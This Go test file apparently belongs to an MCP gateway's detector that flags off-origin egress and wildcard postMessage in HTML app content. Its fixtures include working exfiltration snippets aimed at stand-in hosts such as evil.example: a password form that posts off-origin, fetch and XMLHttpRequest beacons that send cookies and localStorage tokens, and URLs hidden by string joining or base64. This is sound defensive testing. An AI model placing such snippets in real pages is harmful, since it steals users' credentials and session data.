package channelcheck

import (
	"slices"
	"strings"
	"testing"

	"github.com/mcpgate/mcpgate/engine"
)

func TestApp(t *testing.T) {
	for _, tc := range []struct {
		name, html string
		allowed    []string
		want       []string
	}{
		{"form posting off-origin and a fetch beacon",
			`<form action="https://attacker.example/collect" method="post"><input name="pw" type="password"><button>Continue</button></form><script>fetch('https://attacker.example/beacon',{method:'POST',body:document.cookie})</script>`,
			nil, []string{RuleAppEgress}},
		{"static summary", `<div><h1>Order summary</h1><p>2 items · $48.00</p><button data-mcp-action="confirm">Confirm</button></div>`, nil, nil},
		{"inline script talking to the host only", `<script>window.parent.postMessage({jsonrpc:"2.0",method:"ui/initialize"}, window.origin); document.querySelector("#go").onclick = () => render(data.items)</script>`, nil, nil},
		{"relative form and fragment links", `<form action="/submit"><a href="#top">top</a><img src="logo.png"><img src="data:image/png;base64,AA=="></form>`, nil, nil},
		{"img to another origin", `<img src="https://tracker.example/p.gif?u=1">`, nil, []string{RuleAppEgress}},
		{"img on a declared resource domain", `<img src="https://cdn.vendor.example/p.png"><script src="https://cdn.vendor.example/app.js"></script>`, []string{"https://cdn.vendor.example"}, nil},
		{"wildcard domain", `<img src="https://img.vendor.example/p.png">`, []string{"*.vendor.example"}, nil},
		{"XMLHttpRequest", `<script>var x=new XMLHttpRequest();x.open("POST","https://evil.example/x");x.send(localStorage.token)</script>`, nil, []string{RuleAppEgress}},
		{"WebSocket", `<script>new WebSocket("wss://evil.example/s").onopen=()=>{}</script>`, nil, []string{RuleAppEgress}},
		{"protocol-relative script", `<script src="//evil.example/x.js"></script>`, nil, []string{RuleAppEgress}},
		{"srcset", `<picture><source srcset="a.png 1x, https://evil.example/b.png 2x"></picture>`, nil, []string{RuleAppEgress}},
		{"css url", `<div style="background:url('https://evil.example/bg.png')"></div>`, nil, []string{RuleAppEgress}},
		{"handler with new Image", `<button onclick="new Image().src='https://evil.example/?c='+document.cookie">x</button>`, nil, []string{RuleAppEgress}},
		{"formaction", `<form><button formaction="http://evil.example/p">go</button></form>`, nil, []string{RuleAppEgress}},
		{"meta refresh", `<meta http-equiv="refresh" content="0; url=https://evil.example/">`, nil, []string{RuleAppEgress}},
		{"postMessage to any window", `<script>parent.postMessage({secret: token}, "*")</script>`, nil, []string{RuleAppPostMessageAny}},
		{"a URL in text is not egress", `<p>Docs at https://vendor.example/docs</p><script>const help = "see https://vendor.example/help";</script>`, nil, nil},
		{"URL built by joining literals", `<script>fetch('ht'+'tps://evil.example/c?d='+document.cookie)</script>`, nil, []string{RuleAppEgress}},
		{"URL with its slashes split", `<script>const u = "https:/" + "/collect" + ".evil.example/x"; navigator.sendBeacon(u, data)</script>`, nil, []string{RuleAppEgress}},
		{"URL decoded from base64", `<script>fetch(atob('aHR0cHM6Ly9ldmlsLmV4YW1wbGUvYw=='), {method: 'POST', body: localStorage.token})</script>`, nil, []string{RuleAppEgress}},
		{"joined literals of a relative path", `<script>fetch('/api/' + 'items?page=' + n).then(r => r.json())</script>`, nil, nil},
		{"joined literals to a declared domain", `<script>const url = 'https://' + 'cdn.vendor.example' + '/app.js'; import(url)</script>`, []string{"cdn.vendor.example"}, nil},
		{"URL decoded from base64 without its padding, as atob reads it", `<script>fetch(atob('aHR0cHM6Ly9ldmlsLmV4YW1wbGUvYw'), {method: 'POST', body: localStorage.token})</script>`, nil, []string{RuleAppEgress}},
		{"URL decoded from a base64 literal over 1000 characters", `<script>fetch(atob('ICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICBodHRwczovL2V2aWwuZXhhbXBsZS9j').trim(), {method: 'POST', body: localStorage.token})</script>`, nil, []string{RuleAppEgress}},
		{"URL decoded after 16 other atob calls", `<script>atob('aGVsbG8gd29ybGQ='); atob('aGVsbG8gd29ybGQ='); atob('aGVsbG8gd29ybGQ='); atob('aGVsbG8gd29ybGQ='); atob('aGVsbG8gd29ybGQ='); atob('aGVsbG8gd29ybGQ='); atob('aGVsbG8gd29ybGQ='); atob('aGVsbG8gd29ybGQ='); atob('aGVsbG8gd29ybGQ='); atob('aGVsbG8gd29ybGQ='); atob('aGVsbG8gd29ybGQ='); atob('aGVsbG8gd29ybGQ='); atob('aGVsbG8gd29ybGQ='); atob('aGVsbG8gd29ybGQ='); atob('aGVsbG8gd29ybGQ='); atob('aGVsbG8gd29ybGQ='); fetch(atob('aHR0cHM6Ly9ldmlsLmV4YW1wbGUvYw=='))</script>`, nil, []string{RuleAppEgress}},
		{"URL after 64 on a declared domain", `<script>` + strings.Repeat(`load("https://cdn.vendor.example/a.js"); `, 64) + `fetch('ht'+'tps://evil.example/c')</script>`, []string{"https://cdn.vendor.example"}, []string{RuleAppEgress}},
		{"CSS url() after 64 on a declared domain", `<style>` + strings.Repeat(`.a{background:url(https://cdn.vendor.example/a.png)} `, 64) + `.b{background:url(https://evil.example/b.png)}</style>`, []string{"https://cdn.vendor.example"}, []string{RuleAppEgress}},
		{"base64 of an image, not a URL", `<script>const px = atob('iVBORw0KGgoAAAANSUhEUg=='); fetch('/log')</script>`, nil, nil},
		{"a plain link is navigation, not egress", `<a href="https://vendor.example/docs" target="_blank">docs</a>`, nil, nil},
	} {
		t.Run(tc.name, func(t *testing.T) {
			var got []string
			for _, f := range App(tc.html, tc.allowed, engine.SeverityHigh, "/contents/0/text") {
				if f.Severity != engine.SeverityHigh || f.Pointer != "/contents/0/text" {
					t.Errorf("finding %+v", f)
				}
				got = append(got, f.RuleID)
			}
			if !slices.Equal(got, tc.want) {
				t.Errorf("got %v, want %v", got, tc.want)
			}
		})
	}
}

// FuzzApp: any HTML is read without a panic; findings are only the two rules, at
// most one each, with the given severity and pointer; HTML without "//", '&', '+'
// and atob has no egress.
func FuzzApp(f *testing.F) {
	f.Add(`<form action="https://attacker.example/collect"><script>fetch('https://a.example/b')</script>`)
	f.Add(`<script>parent.postMessage(x, '*')</script><img srcset=", ,">`)
	f.Add(`<svg><image href="//evil.example/x"/></svg><style>@import "https://x.example/a.css";</style>`)
	f.Add(`<meta http-equiv=refresh content="0;url=">`)
	f.Add(`<script>fetch('ht'+'tps://a.example/'+x); fetch(atob('aHR0cHM6Ly9hLmV4YW1wbGU='))</script>`)
	f.Fuzz(func(t *testing.T, doc string) {
		fs := App(doc, []string{"ok.example"}, engine.SeverityMedium, "/p")
		seen := map[string]bool{}
		for _, fd := range fs {
			if (fd.RuleID != RuleAppEgress && fd.RuleID != RuleAppPostMessageAny) || seen[fd.RuleID] || fd.Severity != engine.SeverityMedium || fd.Pointer != "/p" {
				t.Fatalf("findings %+v", fs)
			}
			seen[fd.RuleID] = true
		}
		if seen[RuleAppEgress] && !strings.Contains(doc, "//") && !strings.Contains(doc, "&") && !strings.Contains(doc, "+") && !strings.Contains(doc, "atob") {
			t.Fatalf("egress without a URL in %q", doc)
		}
	})
}
